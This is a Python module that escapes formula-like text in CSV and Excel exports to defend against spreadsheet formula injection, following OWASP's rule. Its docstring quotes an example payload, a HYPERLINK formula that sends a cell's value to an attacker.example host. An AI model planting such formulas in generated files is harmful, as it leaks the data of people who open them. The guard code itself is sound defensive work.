"""Every spreadsheet Siang writes — CSV or Excel — goes through here, so no typed text runs as a formula.

A process named `=HYPERLINK("http://attacker.example/?"&D3,"เปิด")` is a live formula once a
spreadsheet opens the file (CSV or formula injection). OWASP's rule: a text cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return — also after leading spaces — is written with a `'`
in front, which spreadsheets show as text. Numbers stay numbers, and so does text that is only a
number ("-5", "1,234", "12.5%"). Siang writes no formulas of its own.

- CSV: `csv_writer(stream)` instead of `csv.writer(stream)`.
- Excel: `new_workbook()` instead of openpyxl's `Workbook()`. It guards every cell when it is
  saved, however the cell was written; a write-only workbook guards each row as it is appended.
- Views that answer such a file carry `@spreadsheet_download`; the formula probe in the tests
  finds them by it and fails for one it does not know how to run.

`unguard` undoes the guard, for the import of a workbook that Siang exported.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Callable, Iterable
from typing import IO, Any, TypeVar

from openpyxl import Workbook
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r")
_JUST_A_NUMBER = re.compile(r"[+-]?\d[\d,]*(\.\d+)?%?")

V = TypeVar("V", bound=Callable[..., Any])


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet take this text for a formula (or a command to run)?"""
    stripped = text.lstrip()
    if text.startswith(CONTROL_STARTS):
        return True
    return stripped.startswith(FORMULA_STARTS) and not _JUST_A_NUMBER.fullmatch(stripped)


def guard(value: Any) -> Any:
    """The value as it is safe to write in a spreadsheet cell."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def guard_row(values: Iterable[Any]) -> list[Any]:
    return [guard(value) for value in values]


def unguard(value: Any) -> Any:
    """A guarded cell read back: the text as it was typed."""
    if isinstance(value, str) and value.startswith("'") and is_formula_like(value[1:]):
        return value[1:]
    return value


# --- CSV ------------------------------------------------------------------------------------------


class GuardedCsvWriter:
    """csv.writer's writerow and writerows, with every cell guarded."""

    def __init__(self, stream: IO[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(guard_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str], **options: Any) -> GuardedCsvWriter:
    return GuardedCsvWriter(stream, **options)


# --- Excel ----------------------------------------------------------------------------------------


class _GuardedWriteOnlySheet(WriteOnlyWorksheet):
    def append(self, row: Iterable[Any]) -> None:
        super().append(guard_row(row))


class GuardedWorkbook(Workbook):
    """An openpyxl workbook that writes no text as a formula."""

    def create_sheet(self, title: str | None = None, index: int | None = None) -> Any:
        if not self.write_only:
            return super().create_sheet(title, index)
        sheet = _GuardedWriteOnlySheet(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet

    def save(self, filename: Any) -> None:
        if not self.write_only:
            for sheet in self.worksheets:
                if isinstance(sheet, Worksheet):
                    _guard_cells(sheet)
        super().save(filename)


def _guard_cells(sheet: Worksheet) -> None:
    for row in sheet.iter_rows():
        for cell in row:
            value = cell.value
            if isinstance(value, str) and (cell.data_type == "f" or guard(value) != value):
                cell.value = guard(value)  # openpyxl takes any text that starts with "=" for a formula


def new_workbook(*, write_only: bool = False) -> GuardedWorkbook:
    return GuardedWorkbook(write_only=write_only)


# --- the registry of downloads --------------------------------------------------------------------


def spreadsheet_download(view: V) -> V:
    """Marks a view that answers a spreadsheet (or, with a query, the table behind a page's chart)."""
    view.spreadsheet_download = True  # type: ignore[attr-defined]
    return view


def is_spreadsheet_download(view: Any) -> bool:
    return bool(getattr(view, "spreadsheet_download", False))
